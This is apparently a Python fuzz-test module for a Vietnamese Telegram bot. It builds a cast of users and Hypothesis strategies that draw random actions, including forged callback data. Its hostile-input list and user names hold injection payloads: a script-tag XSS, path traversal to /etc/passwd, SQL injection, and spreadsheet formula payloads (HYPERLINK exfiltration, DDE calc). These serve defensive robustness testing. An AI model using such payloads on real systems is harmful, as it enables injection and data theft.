"""A cast of people and a stream of random things they do, for the robustness (fuzz) test.

Hypothesis draws each action from what is on screen at that moment (the buttons a person sees,
the messages they sent), mixed with hostile input: HTML specials, texts over 4096 characters,
emoji and zero-width characters, forged and stale callback data, edited messages, stickers,
contacts, group messages, anonymous administrators, channel posts and strangers.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from hypothesis import strategies as st

from bot.emulator import Emulator
from bot.offline import OfflineBot
from bot.storage.models import Role, Unit
from bot.telegram.commands import REGISTRY
from tests.e2e.helpers import add_invite, join

GROUP = -1009988776
CHANNEL = -1005544332
ADMIN_ID = 900001
STRANGER_IDS = range(7_000_000, 7_000_050)

HOSTILE_TEXTS = [
    "<b>đậm</b> & <i>nghiêng",
    "<script>alert(1)</script>",
    "a < b > c & d",
    "&amp;&lt;&#0;&#xFFFF;",
    '=HYPERLINK("http://x/?"&B2,"Click")',
    "@everyone +1 -1",
    "\u200b\u200c\u200d\ufeff",
    "🛡️👮‍♀️🇻🇳" * 40,
    "x" * 4097,
    "Lừa đảo qua mạng " * 300,
    "\x00\x01\x02",
    "\n\n\n",
    " ",
    "/",
    "//",
    "/start@canhgiac_test_bot",
    "/start " + "A" * 200,
    "/start doc-",
    "/start doc-khong-co",
    "/start HS-A HS-A",
    "/thongke 01/01/0001-02/01/0001",
    "/thongke TRUONG-A 9999",
    "/vinhdanh 31/12/9999",
    "/thongke ../../etc/passwd",
    "/kiemtra ' OR 1=1 --",
    "/timkiem %_\\",
    "xin chào",
    "1",
    "-1",
]

PERIODS = ["", "2026", "thang 11", "q4", "nam", "01/01/2026-31/12/2026", "9999", "abc"]


@dataclass
class Person:
    user_id: int
    name: str
    role: Role | None  # None: consented, no unit; strangers are not in the cast


@dataclass
class Cast:
    """Who acts in the fuzz run, and where."""

    people: list[Person]
    group_members: list[int]
    commands: list[str] = field(default_factory=list)


async def assemble(offline: OfflineBot, unit: Unit) -> Cast:
    """An admin, an officer, a trainer, learners, a person without a unit, and a group."""
    async with offline.storage.sessionmaker() as session:
        await add_invite(session, "FZ-HV", unit, Role.LEARNER)
        await add_invite(session, "FZ-GV", unit, Role.TRAINER)
        await add_invite(session, "FZ-CB", unit, Role.OFFICER)
    people = [
        Person(ADMIN_ID, "Quản trị", Role.ADMIN),
        Person(5101, "Cán bộ Hà", Role.OFFICER),
        Person(5102, "Giảng viên Tùng", Role.TRAINER),
        Person(5103, "Lan", Role.LEARNER),
        Person(5104, "<b>Minh</b> & co", Role.LEARNER),
        Person(5105, "=cmd|' /C calc'!A0", Role.LEARNER),
        Person(5106, "Chưa vào đơn vị", None),
    ]
    codes = {Role.OFFICER: "FZ-CB", Role.TRAINER: "FZ-GV", Role.LEARNER: "FZ-HV"}
    for person in people:
        chat = offline.chat(person.user_id, first_name=person.name)
        code = codes.get(person.role) if person.role else None
        if code:
            await join(chat, code)
        else:
            await chat.send("/start")
            await chat.press("✅")
    offline.emulator.add_group(GROUP, "Nhóm kiểm thử <&>")
    members = [p.user_id for p in people[1:5]]
    for member in members:
        offline.emulator.add_member(GROUP, member)
    commands = sorted({name for spec in REGISTRY for name in (spec.vi, spec.en)})
    return Cast(people, members, commands)


# Something a person does to the emulator.
Act = Callable[[Emulator], object]


@dataclass(frozen=True)
class Screen:
    """What the people see, copied out of the emulator so actions can be drawn elsewhere."""

    buttons: dict[int, list[tuple[int, list[str], list[str]]]]  # chat -> (message, live, all)
    texts: dict[int, list[int]]  # person -> ids of the texts they sent in their private chat

    @classmethod
    def of(cls, emulator: Emulator, chats: list[int]) -> Screen:
        buttons: dict[int, list[tuple[int, list[str], list[str]]]] = {}
        for chat_id in chats:
            for message in emulator.messages(chat_id):
                datas = [
                    d
                    for row in message.buttons()
                    for _t, d in row
                    if d and not d.startswith(("http://", "https://", "tg://"))
                ]
                if datas and not message.deleted:
                    live = list(message.callback_data())
                    buttons.setdefault(chat_id, []).append((message.message_id, live, datas))
        texts: dict[int, list[int]] = {}
        for (chat, mid), sent in list(emulator.state.bot().user_messages.items()):
            if chat == sent.get("from", {}).get("id") and "text" in sent:
                texts.setdefault(chat, []).append(mid)
        return cls(buttons, texts)


def _mutate_data(data: str) -> st.SearchStrategy[str]:
    parts = data.split(":")
    return st.one_of(
        st.just(data[: max(1, len(data) // 2)]),
        st.just(":".join([*parts[:-1], "999999999"])),
        st.just(":".join([*parts[:-1], "-1"])),
        st.just(":".join([*parts, "x"])),
        st.just(data.replace("1", "9", 1)),
        st.text(min_size=1, max_size=64),
        st.sampled_from(
            [
                "st1:show:1:c3652058-3652059:0",
                "p1:export",
                "p1:forget_yes",
                "bc1:send:1",
                "rm1:delete:1",
                "iv1:x:1:officer",
                "qz1:a:999999:0:0",
                "c1:1",
                "hr1:x",
            ]
        ),
    )


@st.composite
def text_input(draw: st.DrawFn, commands: list[str]) -> str:
    kind = draw(st.sampled_from(["command", "hostile", "free", "digits"]))
    if kind == "command":
        name = draw(st.sampled_from(commands))
        args = draw(
            st.one_of(
                st.just(""),
                st.sampled_from(PERIODS),
                st.sampled_from(["TRUONG-A", "TRUONG-A-10A1", "CTY-B", "KHONG-CO", "HS-A"]),
                st.text(max_size=40),
            )
        )
        return f"/{name} {args}".strip()
    if kind == "hostile":
        return draw(st.sampled_from(HOSTILE_TEXTS))
    if kind == "digits":
        return str(draw(st.integers(min_value=-3, max_value=12)))
    return draw(st.text(min_size=1, max_size=300).filter(lambda t: t.strip() != ""))


@st.composite
def action(draw: st.DrawFn, screen: Screen, cast: Cast) -> Act:
    """One thing somebody does, chosen from what is on their screen now."""
    person = draw(st.sampled_from(cast.people))
    uid = person.user_id
    kind = draw(
        st.sampled_from(
            [
                "text",
                "text",
                "press",
                "press",
                "press",
                "forge",
                "stale",
                "edit",
                "attachment",
                "contact",
                "group",
                "group_press",
                "anonymous",
                "channel",
                "stranger",
                "block",
            ]
        )
    )
    if kind in ("press", "forge", "stale", "group_press"):
        chat_id = GROUP if kind == "group_press" else uid
        messages = screen.buttons.get(chat_id, [])
        if messages:
            mid, live, datas = messages[-1] if kind == "press" else draw(st.sampled_from(messages))
            data = draw(st.sampled_from(datas))
            if kind == "forge":
                data = draw(_mutate_data(data))[:64] or "x"
            presser = draw(st.sampled_from(cast.group_members)) if chat_id == GROUP else uid
            if data in live:
                return lambda emu: emu.press_button(presser, chat_id, mid, data)
            return lambda emu: emu.forge_callback(presser, chat_id, mid, data)
        kind = "text"
    if kind == "edit" and screen.texts.get(uid):
        mid = draw(st.sampled_from(screen.texts[uid]))
        new = draw(text_input(cast.commands))
        return lambda emu: emu.edit_text(uid, uid, mid, new)
    if kind == "attachment":
        what = draw(st.sampled_from(["sticker", "photo", "location", "document", "voice"]))
        caption = draw(st.one_of(st.none(), text_input(cast.commands)))
        in_group = draw(st.booleans()) and uid in cast.group_members
        return lambda emu: emu.send_attachment(uid, what, GROUP if in_group else None, caption)
    if kind == "contact":
        phone = draw(st.sampled_from(["+84901234567", "0901234567", "", "=1+1"]))
        return lambda emu: emu.send_contact(uid, phone or "0")
    if kind == "group":
        member = draw(st.sampled_from(cast.group_members))
        text = draw(text_input(cast.commands))
        return lambda emu: emu.send_text(member, text, GROUP)
    if kind == "anonymous":
        text = draw(text_input(cast.commands))
        return lambda emu: emu.anonymous_admin_text(GROUP, text)
    if kind == "channel":
        text = draw(text_input(cast.commands))
        return lambda emu: emu.channel_post(CHANNEL, text)
    if kind == "stranger":
        stranger = draw(st.sampled_from(STRANGER_IDS))
        text = draw(text_input(cast.commands))
        return lambda emu: emu.send_text(stranger, text)
    if kind == "block":
        blocked = draw(st.booleans())
        return lambda emu: emu.block(uid) if blocked else emu.unblock(uid)
    text = draw(text_input(cast.commands))
    return lambda emu: emu.send_text(uid, text)
